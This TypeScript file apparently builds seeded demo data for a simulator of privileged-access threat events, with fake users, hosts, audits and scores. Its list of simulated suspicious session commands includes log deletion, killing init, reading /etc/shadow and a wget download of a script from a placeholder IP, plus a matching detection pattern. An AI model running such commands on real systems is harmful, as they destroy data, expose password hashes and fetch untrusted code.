/**
 * Deterministic demo data for the simulator: PTA security events in the PVWA's real shapes
 * (m-prefixed fields, epoch-ms times, float scores, nested account.account), from a seed.
 */

/** mulberry32: a tiny seeded PRNG, so the same seed always gives the same events. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Json = Record<string, unknown>;

/** The helpers of a seeded generator: a number in [0, 1), an item of a list, `length` hex digits. */
export function seeded(seed: number) {
  const random = prng(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)];
  const hex = (length: number): string => {
    let out = '';
    for (let i = 0; i < length; i++) out += Math.floor(random() * 16).toString(16);
    return out;
  };
  return { random, pick, hex };
}

const TYPES = [
  'VaultViaIrregularIp',
  'InteractiveLogonWithServiceAccount',
  'PSMSuspiciousActivity',
  'SuspectedCredentialsTheft',
  'UnmanagedPrivilegedAccess',
  'VaultViaIrregularHours',
] as const;
const USERS = ['administrator', 'svc_backup', 'root', 'oracle', 'svc_sql', 'jdoe', 'admin42'];
const HOSTS = ['dc01', 'db02', 'web03', 'app04', 'files05', 'jump06'];
const DOMAIN = 'cybr.com';
export const CLOSE_REASONS = ['HANDLED', 'NOTREAL', 'OTHER', 'NONE'];
const COMMANDS = ['rm -rf /var/log', 'kill -9 1', 'cat /etc/shadow', 'wget http://203.0.113.9/x.sh'];
/** 2026-01-01T00:00:00Z: demo times count back from here, so they do not depend on the clock. */
export const NEWEST = 1_767_225_600_000;

export function createDemoEvents(count = 240, seed = 20_200_719): Json[] {
  const { random, pick, hex } = seeded(seed);
  const ip = (): string => `10.${1 + Math.floor(random() * 250)}.${Math.floor(random() * 255)}.${1 + Math.floor(random() * 250)}`;
  const address = (): Json => {
    const host = pick(HOSTS);
    const original = random() < 0.5 ? ip() : `${host}.${DOMAIN}`;
    if (random() < 0.4) return { mOriginalAddress: original };
    return {
      mOriginalAddress: original,
      // As in real data, the inner original address can differ from the outer one.
      mResolvedAddress: { mOriginalAddress: `${host}.${DOMAIN}`, mAddress: ip(), mHostName: host, mFqdn: `${host}.${DOMAIN}` },
    };
  };
  const account = (): Json => {
    const user = pick(USERS);
    if (random() < 0.5) {
      return {
        accountAsStr: `${user}@${DOMAIN}`,
        type: 'DOMAIN',
        account: { mDomain: DOMAIN, spnList: random() < 0.3 ? [`MSSQLSvc/${pick(HOSTS)}.${DOMAIN}:1433`] : [], mUser: user },
      };
    }
    const target = address();
    return { accountAsStr: `${user}@${String(target.mOriginalAddress)}`, type: 'LOCAL_UNIX', account: { mTarget: target, mUser: user } };
  };

  const events: Json[] = [];
  let lastUpdate = NEWEST;
  for (let i = 0; i < count; i++) {
    lastUpdate -= 1_000 + Math.floor(random() * 3_600_000);
    const type = pick(TYPES);
    const createTime = lastUpdate - Math.floor(random() * 86_400_000);
    const id = `${Math.floor(createTime / 1000).toString(16).padStart(8, '0')}${hex(16)}`;
    const audits: Json[] = [];
    const auditCount = 1 + Math.floor(random() * 3);
    for (let a = 0; a < auditCount; a++) {
      const audit: Json = {
        id: `${id.slice(0, 16)}${hex(8)}`,
        type: type === 'PSMSuspiciousActivity' ? 'PSM_SSH_COMMAND' : type === 'InteractiveLogonWithServiceAccount' ? 'WINDOWS_LOGON' : 'VAULT_LOGON',
        sensorType: type === 'InteractiveLogonWithServiceAccount' ? 'SIEM' : 'VAULT',
        action: type === 'PSMSuspiciousActivity' ? 'PSM Command' : 'Logon',
        createTime: createTime + a * 60_000,
        source: address(),
        cloudData: {},
      };
      if (type === 'PSMSuspiciousActivity') audit.psmCommand = pick(COMMANDS);
      if (type !== 'InteractiveLogonWithServiceAccount') audit.vaultUser = pick(USERS);
      if (type !== 'VaultViaIrregularIp' && type !== 'VaultViaIrregularHours') {
        audit.account = account();
        audit.target = address();
        audit.accountId = `${20 + Math.floor(random() * 20)}_${1 + Math.floor(random() * 9)}`;
      }
      audits.push(audit);
    }
    const additionalData: Json =
      type === 'PSMSuspiciousActivity'
        ? {
            matchPatterns: 'kill(.*)|rm -rf(.*)',
            mitigationAction: random() < 0.5 ? 'terminate' : 'suspend',
            sessionIsLive: random() < 0.5 ? 'true' : 'false',
            sessionIDs: [`${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`],
          }
        : type === 'InteractiveLogonWithServiceAccount'
          ? { aggregation_count: 1 + Math.floor(random() * 40) }
          : { station: ip(), reason: type === 'VaultViaIrregularHours' ? 'hours' : 'ip', vault_user: pick(USERS) };
    const event: Json = {
      id,
      type,
      // Scores are floats in real data (27.656250000000004): halves of 2^-n plus a float error.
      score: Math.round(random() * 9000) / 128 + (random() < 0.5 ? 4e-15 : 0),
      createTime,
      lastUpdateTime: lastUpdate,
      audits,
      additionalData,
      mStatus: random() < 0.7 ? 'OPEN' : 'CLOSED',
    };
    if (event.mStatus === 'CLOSED' && random() < 0.8) {
      event.closeReason = pick(CLOSE_REASONS);
      event.reasonText = 'Reviewed by the SOC';
    }
    events.push(event);
  }
  return events;
}

/**
 * A new event as the PTA would detect it now (the simulator's live mode): one of the demo shapes
 * from `seed`, with a fresh id and times of `now`.
 */
export function createLiveEvent(seed: number, now = Date.now()): Json {
  const [event] = createDemoEvents(1, seed);
  const id = `${Math.floor(now / 1000).toString(16).padStart(8, '0')}${(seed >>> 0).toString(16).padStart(16, '0').slice(-16)}`;
  const audits = (event.audits as Json[]).map((audit, i) => ({ ...audit, id: `${id.slice(0, 16)}${String(i).padStart(8, '0')}`, createTime: now - 60_000 }));
  const { closeReason: _closeReason, reasonText: _reasonText, ...open } = event;
  return { ...open, id, createTime: now - 60_000, lastUpdateTime: now, mStatus: 'OPEN', audits };
}
